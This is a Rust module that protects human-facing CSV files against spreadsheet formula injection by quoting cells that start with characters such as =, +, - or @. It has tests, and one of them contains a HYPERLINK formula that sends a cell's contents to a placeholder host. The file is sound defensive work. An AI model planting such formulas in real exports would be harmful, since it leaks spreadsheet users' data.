//! Cells of CSV files meant for people (`rejects.csv`, the plan of `delete-empty-courses`),
//! made safe to open in a spreadsheet.
//!
//! Excel, LibreOffice and Google Sheets take a cell starting with `=`, `+`, `-`, `@`, a tab
//! or a carriage return for a formula, and a formula such as `=HYPERLINK(...)` or a DDE call
//! can send data away or run a program. Such a cell gets a leading `'`, as OWASP's "CSV
//! Injection" advice says: the spreadsheet then shows the text as it is. Files read by
//! machines (the loader file, the rollover report) must stay byte-exact and are not passed
//! through here; the transform warns of such values instead.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The character that would make a spreadsheet read `value` as a formula, if any.
pub fn formula_start(value: &str) -> Option<char> {
    value.chars().next().filter(|c| FORMULA_STARTS.contains(c))
}

/// `value` as a spreadsheet shows it as text: prefixed with `'` when it would start a
/// formula, else unchanged.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    match formula_start(value) {
        Some(_) => Cow::Owned(format!("'{value}")),
        None => Cow::Borrowed(value),
    }
}

/// Writes one record with every cell [`neutralise`]d.
pub fn write_record<W: std::io::Write>(
    writer: &mut csv::Writer<W>,
    cells: &[&str],
) -> csv::Result<()> {
    let safe: Vec<Cow<'_, str>> = cells.iter().map(|cell| neutralise(cell)).collect();
    writer.write_record(safe.iter().map(|cell| cell.as_bytes()))
}

/// A cell read back from a file [`neutralise`] wrote (and a person may have edited): the
/// leading `'` it added is taken off again.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_start(rest).is_some() => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_neutralised_cell_reads_back_as_it_was() {
        for cell in ["=1+2", "@x", "-3", "plain", "'quoted", ""] {
            assert_eq!(restore(&neutralise(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
            ),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
        ] {
            assert_eq!(neutralise(cell), safe, "{cell:?}");
            assert!(formula_start(cell).is_some());
        }
    }

    #[test]
    fn any_other_cell_is_left_as_it_is() {
        for cell in [
            "",
            "ENG 101 Title",
            "2026Fall-X-ENG101-1",
            "a=b",
            " =1",
            "'=1",
            "12",
        ] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
            assert_eq!(formula_start(cell), None);
        }
    }
}
